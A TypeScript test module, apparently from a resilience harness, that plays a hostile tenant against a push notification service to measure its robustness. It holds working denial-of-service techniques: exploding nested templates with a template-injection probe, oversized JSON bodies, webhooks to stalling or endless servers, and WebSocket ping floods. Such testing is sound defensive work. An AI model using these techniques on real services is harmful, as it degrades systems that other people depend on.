// A hostile tenant that attacks until its process is killed. It uses templates with very long results, names whose servers are
// silent, sockets that send too much and never read, expensive bodies, and receivers that stall. Each attack has a steady and
// low pace: it must use little CPU time itself, so that only its effect on PNS is measured.
import { createServer, connect, type AddressInfo, type Server, type Socket } from 'node:net';
import { Pool } from 'undici';
import { answerQuestions } from '../child';

/** The input of the attacker: an API key of one context with all scopes, the URLs of PNS, and names for the attacks. */
export interface AttackQuestion {
  readonly apiUrl: string;
  readonly websocketUrl: string;
  readonly apiKey: string;
  readonly context: number;
  /** The id of a webhook whose users choose the URI. */
  readonly webhook: string;
  /** A client of APNs, and the property with which the context may switch APNs on. */
  readonly apnsClient: string;
  readonly apnsSwitch: string;
  /** A domain whose name server never answers. */
  readonly silentDomain: string;
}

/** How many of the tenant's users take part in each kind of attack. */
const attackers = 40;
/** Time between two rounds of each kind of attack, in ms. */
const paceMs = 250;
const mebibyte = 1024 * 1024;

/** The templates from the worst to the mildest. The attacker uses the first one that PNS accepts. */
const templates = [
  '{{#a}}'.repeat(300) + 'x' + '{{/a}}'.repeat(300),
  '{{#a}}{{#a}}{{#a}}{{.}}{{/a}}{{/a}}{{/a}}',
  '{{#a}}{{#a}}{{.}}{{/a}}{{/a}}',
  '{{#a}}{{subject}}{{subject}}{{/a}}{{constructor.keys}}',
  '{{#a}}{{subject}}{{subject}}{{/a}}',
  '{{subject}}'.repeat(300),
];

async function attack(question: AttackQuestion): Promise<object> {
  const { apiUrl, apiKey, context } = question;
  const pool = new Pool(apiUrl, { connections: 20 });
  const send = async (method: 'POST' | 'PUT', path: string, body: string | Buffer, key?: string): Promise<number> => {
    const headers = {
      'content-type': 'application/json',
      ...(key !== undefined && { authorization: `Bearer ${key}` }),
    };
    const answer = await pool.request({ method, path, headers, body });
    await answer.body.dump();
    return answer.statusCode;
  };
  const call = (method: 'POST' | 'PUT', path: string, body: object): Promise<number> =>
    send(method, path, JSON.stringify(body), apiKey);

  const accepted = await prepareTemplates(call, question);
  const receivers = await hostileReceivers();
  for (let user = 1; user <= attackers; user++) {
    const who = { context, user, topics: ['*'] };
    const token = user.toString(16).padStart(64, '0');
    await call('POST', '/v1/subscriptions', { ...who, client: question.apnsClient, transport: 'apns', token });
    const uris = [`http://host-${user}.${question.silentDomain}/`, receivers[user % receivers.length]?.uri ?? ''];
    for (const uri of uris) {
      await call('POST', '/v1/subscriptions', { ...who, client: question.webhook, transport: 'webhook', token: uri });
    }
  }
  const lists = { subject: 'x'.repeat(1000), a: Array.from({ length: 15_000 }, () => [1]) };
  let round = 0;
  repeat(async () => {
    const user = 1 + (round++ % attackers);
    await call('POST', '/v1/notifications', {
      context,
      user,
      topic: 'ox:mail:new',
      payload: { ...lists, folder: `f${round}` },
    });
  });
  for (const body of expensiveBodies()) {
    repeat(() => send('PUT', '/ajax/pns?action=subscribe', body));
    repeat(() => send('POST', '/v1/notifications', body, apiKey));
    repeat(() => send('POST', '/v1/subscriptions', body, apiKey));
  }
  repeat(() => call('POST', '/v1/notifications', { notifications: batchOf(context) }));
  await floodingSockets(question, send);
  return { template: accepted.slice(0, 60) };
}

/** Enables APNs and sets the worst template that is accepted; returns it. */
async function prepareTemplates(
  call: (method: 'POST' | 'PUT', path: string, body: object) => Promise<number>,
  { context, apnsSwitch }: AttackQuestion,
): Promise<string> {
  const property = (name: string): string => `/v1/config/contexts/${context}/properties/${name}`;
  const switched = await call('PUT', property(apnsSwitch), { value: 'true' });
  if (switched >= 300) throw new Error(`APNs could not be switched on: ${switched}`);
  for (const template of templates) {
    const answers = [
      await call('PUT', property('com.openexchange.pns.template.title'), { value: template }),
      await call('PUT', property('com.openexchange.pns.template.body'), { value: template }),
    ];
    if (answers.every((status) => status < 300)) return template;
  }
  throw new Error('No template was accepted.');
}

/** Request bodies whose parsing is expensive compared with their size. */
function expensiveBodies(): Buffer[] {
  return [
    Buffer.from('['.repeat(16 * mebibyte - 1)),
    Buffer.from('{"a":'.repeat(3 * mebibyte)),
    Buffer.from(`{"notifications":[${'{},'.repeat(4 * mebibyte)}{}]}`),
    Buffer.from(`[${'1e1,'.repeat(3 * mebibyte)}1]`),
  ];
}

function batchOf(context: number): object[] {
  return Array.from({ length: 200 }, (_, index) => ({
    context,
    user: 1000 + index,
    topic: 'ox:mail:new',
    payload: { folder: 'x'.repeat(2000), id: String(Math.random()) },
  }));
}

/** Starts servers that hang, answer slowly or without end, or close the connection at the first bytes. */
async function hostileReceivers(): Promise<{ uri: string; server: Server }[]> {
  const behaviours: ((socket: Socket) => void)[] = [
    () => undefined,
    (socket) => drip(socket, 'HTTP/1.1 200 OK\r\n', 'x-a: b\r\n'),
    (socket) => drip(socket, 'HTTP/1.1 200 OK\r\ncontent-length: 100000000\r\n\r\n', 'x'),
    (socket) =>
      drip(socket, 'HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n', `10000\r\n${'x'.repeat(65_536)}\r\n`),
    (socket) => void socket.on('data', () => socket.destroy()),
  ];
  return Promise.all(
    behaviours.map(
      (behave) =>
        new Promise<{ uri: string; server: Server }>((resolve) => {
          const server = createServer((socket) => {
            socket.on('error', () => undefined).resume();
            behave(socket);
          });
          server.listen(0, '127.0.0.1', () => {
            resolve({ uri: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, server });
          });
        }),
    ),
  );
}

/** Writes `start`, and then `more` repeatedly until the other side closes. */
function drip(socket: Socket, start: string, more: string): void {
  socket.write(start);
  const timer = setInterval(() => socket.write(more), 20);
  socket.once('close', () => clearInterval(timer));
}

/** Keeps opening sockets, with and without a session, that send pings and never read. */
async function floodingSockets(
  { apiUrl, apiKey, websocketUrl, context }: AttackQuestion,
  send: (method: 'POST', path: string, body: string, key: string) => Promise<number>,
): Promise<void> {
  await send('POST', '/v1/sessions', JSON.stringify({ context, user: 1 }), apiKey);
  const answer = await fetch(`${apiUrl}/v1/sessions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' },
    body: JSON.stringify({ context, user: 1 }),
  });
  const { token } = (await answer.json()) as { token: string };
  const { hostname, port } = new URL(websocketUrl);
  const open = (query: string): void => {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => undefined).pause();
    socket.write(
      `GET /socket.io/appsuite/?EIO=4&transport=websocket${query} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nUpgrade: websocket\r\n` +
        'Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n',
    );
    const timer = setInterval(() => {
      if (socket.writableLength < mebibyte) for (let ping = 0; ping < 50; ping++) socket.write(pingFrame);
    }, 50);
    socket.once('close', () => clearInterval(timer));
  };
  for (let each = 0; each < 4; each++) open(`&session=${token}&connection=flood-${each}`);
  let opened = 0;
  repeat(() => {
    for (let each = 0; each < 5; each++)
      open(opened++ % 2 === 0 ? '' : `&session=${token}&connection=flood-${opened % 8}`);
    return Promise.resolve();
  });
}

/** A masked ping with 125 bytes, RFC 6455, 5.5.2; the mask is zero. */
const pingFrame = Buffer.concat([Buffer.from([0x89, 0x80 | 125, 0, 0, 0, 0]), Buffer.alloc(125, 'x')]);

/** Runs `once` at a steady pace, without overlap. Errors are ignored. */
function repeat(once: () => Promise<unknown>): void {
  let isRunning = false;
  setInterval(() => {
    if (isRunning) return;
    isRunning = true;
    once().then(
      () => (isRunning = false),
      () => (isRunning = false),
    );
  }, paceMs);
}

answerQuestions<AttackQuestion>(attack);
